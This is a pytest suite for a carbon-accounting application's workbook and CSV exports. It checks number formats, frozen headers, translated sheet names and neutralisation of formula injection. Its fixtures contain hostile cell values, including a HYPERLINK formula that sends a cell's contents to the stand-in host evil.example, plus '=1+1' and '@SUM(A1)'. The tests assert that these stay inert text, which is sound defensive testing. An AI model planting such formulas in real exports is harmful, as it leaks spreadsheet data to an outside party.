"""Every workbook and CSV file the product writes: text stays text, numbers
stay numbers with a display format, tables have a frozen header and filters."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import load_workbook

from carbonledger.lib.spreadsheets import (
    Column,
    SpreadsheetWriter,
    csv_bytes,
    csv_value,
)
from emissions.exporting import entries_csv
from emissions.imports.template import template_csv, template_xlsx
from reports.kinds.eco_lighthouse import eco_lighthouse_xlsx
from reports.kinds.inventory_workbook import inventory_workbook
from reports.kinds.tables_workbook import report_tables_xlsx
from reports.selectors import annual_report_data
from tests.factories import BusinessUnitFactory, OrganisationFactory
from tests.reports.factories import entry

EVIL_UNIT = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
EVIL_ORG = "=1+1"
HOSTILE = [EVIL_UNIT, EVIL_ORG, "+47 22 00 00 00", "-2+3", "@SUM(A1)", "\tcmd"]


@pytest.fixture
def evil(db, admin):
    org = OrganisationFactory(slug="evil", name=EVIL_ORG)
    unit = BusinessUnitFactory(organisation=org, code="EVL", name=EVIL_UNIT)
    entry(
        organisation=org,
        unit=unit,
        year=2024,
        code="natural_gas",
        scope=1,
        kg="12345.678",
        quantity="25000.5",
        user=admin,
    )
    return org


def _workbooks(org) -> dict[str, bytes]:
    with translation.override("en"):
        data = annual_report_data(organisation=org, year=2024)
    return {
        "report tables": report_tables_xlsx(data, language="en"),
        "eco-lighthouse": eco_lighthouse_xlsx(organisation=org, year=2024),
        "inventory": inventory_workbook(organisation=org),
        "import template": template_xlsx(org, "en"),
    }


def _text_cells(payload: bytes) -> dict[str, list]:
    workbook = load_workbook(io.BytesIO(payload))
    return {
        sheet.title: [cell for row in sheet.iter_rows() for cell in row]
        for sheet in workbook.worksheets
    }


def test_no_workbook_holds_a_formula_and_hostile_names_stay_text(evil):
    for name, payload in _workbooks(evil).items():
        cells = [c for sheet in _text_cells(payload).values() for c in sheet]
        assert [c.coordinate for c in cells if c.data_type == "f"] == [], name
        texts = {c.value for c in cells if c.data_type == "s"}
        assert any(EVIL_ORG in str(text) or EVIL_UNIT in str(text) for text in texts), (
            name
        )


@pytest.mark.parametrize(
    ("workbook", "sheet", "value"),
    [
        ("report tables", "Business units", EVIL_UNIT),
        ("eco-lighthouse", "Miljørapport", EVIL_ORG),
        ("inventory", "By business unit", EVIL_UNIT),
        ("inventory", "About", f"Inventory of {EVIL_ORG}"),
    ],
)
def test_the_reported_names_are_written_as_text(evil, workbook, sheet, value):
    cells = _text_cells(_workbooks(evil)[workbook])[sheet]
    found = [c for c in cells if c.value == value]
    assert found, [c.value for c in cells]
    assert {c.data_type for c in found} == {"s"}


def test_report_tables_keep_numbers_as_numbers_with_a_display_format(evil):
    workbook = load_workbook(io.BytesIO(_workbooks(evil)["report tables"]))
    units = workbook["Business units"]
    assert [c.value for c in units[1]] == [
        "Code",
        "Business unit",
        "t CO2e (scope 2 market-based)",
    ]
    code, name, tonnes = units[2]
    assert (code.value, name.value) == ("EVL", EVIL_UNIT)
    assert Decimal(str(tonnes.value)) == Decimal("12.345678")
    assert tonnes.data_type == "n"
    assert tonnes.number_format == "#,##0.0"
    assert units.freeze_panes == "A2"
    assert units.auto_filter.ref == "A1:C2"
    assert units.column_dimensions["B"].width > 40  # as wide as the long name
    activity = workbook["Activity data"]
    quantity = activity.cell(row=2, column=4)
    assert (quantity.value, quantity.number_format) == (25000.5, "#,##0.0##")


def test_eco_lighthouse_writes_quantities_with_grouped_thousands(evil):
    sheet = load_workbook(io.BytesIO(_workbooks(evil)["eco-lighthouse"]))[
        "Miljørapport"
    ]
    assert [sheet["A1"].value, sheet["B1"].value] == [
        "Miljøfyrtårn – årlig miljørapport 2024",
        EVIL_ORG,
    ]
    assert sheet["B1"].data_type == "s"
    assert sheet["A1"].font.bold
    totals = [
        row for row in sheet.iter_rows() if str(row[0].value).startswith("Klimagass")
    ]
    # The headline (market-based) total first, then the location-based one.
    headline, other = totals
    assert headline[0].value == (
        "Klimagassutslipp totalt (tonn CO2e, scope 2 markedsbasert, hovedtall)"
    )
    assert (
        other[0].value == "Klimagassutslipp totalt (tonn CO2e, scope 2 lokasjonsbasert)"
    )
    for total in totals:
        assert Decimal(str(total[1].value)) == Decimal("12.345678")
        assert total[1].number_format == "#,##0.0"


def test_inventory_workbook_speaks_the_report_language(evil):
    payload = inventory_workbook(organisation=evil, language="nb")
    workbook = load_workbook(io.BytesIO(payload))
    assert workbook.sheetnames == [
        "Registreringer",
        "Per omfang",
        "Per forretningsenhet",
        "Om",
    ]
    entries = workbook["Registreringer"]
    assert entries["B1"].value == "Forretningsenhet"
    assert entries.freeze_panes == "A2"
    assert entries.auto_filter.ref.startswith("A1:")
    quantity = entries.cell(row=2, column=11)
    assert (Decimal(str(quantity.value)), quantity.number_format) == (
        Decimal("25000.5"),
        "#,##0.0##",
    )
    year = entries.cell(row=2, column=3)
    assert (year.value, year.number_format) == (2024, "General")
    swedish = load_workbook(
        io.BytesIO(inventory_workbook(organisation=evil, language="sv"))
    )
    assert swedish.sheetnames == ["Poster", "Per scope", "Per affärsenhet", "Om"]


def test_every_csv_neutralises_hostile_text(evil):
    evil.business_units.update(code="-EVL")  # a code from before codes were checked
    for payload in (entries_csv(organisation=evil), template_csv(evil)):
        rows = list(csv.reader(io.StringIO(payload.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        assert "'-EVL" in cells
        assert "-EVL" not in cells
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


@pytest.mark.parametrize("value", HOSTILE + ["\uff1d1+1", "\uff20SUM(A1)", "\rcmd"])
def test_the_shared_writer_keeps_hostile_text_as_text(value):
    book = SpreadsheetWriter()
    sheet = book.table("Names", [Column("Name"), Column("kg", "kg")])
    sheet.append([value, Decimal("-1234.5")])
    workbook = load_workbook(io.BytesIO(book.save()))
    name, kg = workbook["Names"][2]
    assert (name.value, name.data_type) == (value, "s")
    assert (kg.value, kg.data_type, kg.number_format) == (-1234.5, "n", "#,##0.0")
    assert csv_value(value) == "'" + value
    assert csv_bytes(["Name"], [[value]]).decode("utf-8-sig").splitlines()[1]


def test_the_shared_writer_drops_control_characters_a_workbook_cannot_hold():
    book = SpreadsheetWriter()
    sheet = book.table("Notes", [Column("Comment")])
    sheet.append(["bell\x07 and\x0b tab"])
    workbook = load_workbook(io.BytesIO(book.save()))
    assert workbook["Notes"]["A2"].value == "bell and tab"


@pytest.mark.parametrize(
    ("value", "expected"),
    [(Decimal("-5.5"), "-5.5"), (-3, "-3"), (None, ""), ("Oslo", "Oslo")],
)
def test_csv_values_keep_numbers_and_plain_text(value, expected):
    assert csv_value(value) == expected
